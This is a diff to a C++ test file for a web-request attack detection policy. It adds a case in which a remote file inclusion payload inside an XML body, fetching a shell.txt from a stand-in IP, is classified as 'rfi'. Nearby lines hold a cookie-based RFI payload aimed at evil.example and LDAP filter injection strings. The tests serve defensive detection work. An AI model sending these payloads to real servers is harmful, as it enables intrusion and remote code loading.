@@ -302,6 +302,9 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     // The '?' that cuts off an appended extension, in a cookie's value: ';' ends it there.
     CHECK(set_hit("GET / HTTP/1.1\r\nCookie: pref=http%3A%2F%2Fevil.example%2Fx.txt%3F; "
                   "sid=1\r\n\r\n") == "rfi");
+    // ... and in an XML body, where '<' ends it.
+    CHECK(set_hit("POST /api HTTP/1.1\r\nContent-Type: application/xml\r\n\r\n<order><note>"
+                  "http://203.0.113.9/shell.txt?</note></order>") == "rfi");
     // LDAP filter injection: the closing "*)" then any number of opening parentheses.
     CHECK(set_hit("GET /login?user=admin*)((|userPassword=*) HTTP/1.1\r\n") == "protocol");
     CHECK(set_hit("GET /login?user=*)(uid=*))(|(uid=* HTTP/1.1\r\n") == "protocol");
